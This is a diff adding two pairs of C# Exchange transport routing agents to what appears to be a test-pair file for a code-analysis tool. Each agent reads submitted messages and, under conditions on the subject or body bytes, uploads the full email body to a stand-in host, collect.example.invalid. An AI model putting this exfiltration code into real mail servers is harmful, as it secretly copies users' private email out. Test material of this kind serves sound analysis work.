@@ -456,3 +456,124 @@ namespace Txray.Pairs.P408
         }
     }
 }
+
+// 409: why a walk over the subject ended, and a byte of the content that is 0
+namespace Txray.Pairs.P409
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            fixed (char* start = e.MailItem.Message.Subject)
+            {
+                char* at = start;
+                while (*at != 0 && *at != '!')
+                {
+                    at++;
+                }
+                if (*at != 0)
+                {
+                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+                }
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private unsafe void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            byte[] content = new byte[64];
+            e.MailItem.Message.Body.GetContentReadStream().Read(content, 0, content.Length);
+            fixed (byte* start = content)
+            {
+                for (byte* at = start; at < start + content.Length; at++)
+                {
+                    if (*at == 0)
+                    {
+                        new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+                        return;
+                    }
+                }
+            }
+        }
+    }
+}
+
+// 410: that no word but the first is one, and that no word is
+namespace Txray.Pairs.P410
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.Message.Subject.Split(' ').Skip(1).Sum(word => word == "invoice" ? 1 : 0) == 0)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.Message.Subject.Split(' ').Sum(word => word == "invoice" ? 1 : 0) == 0)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
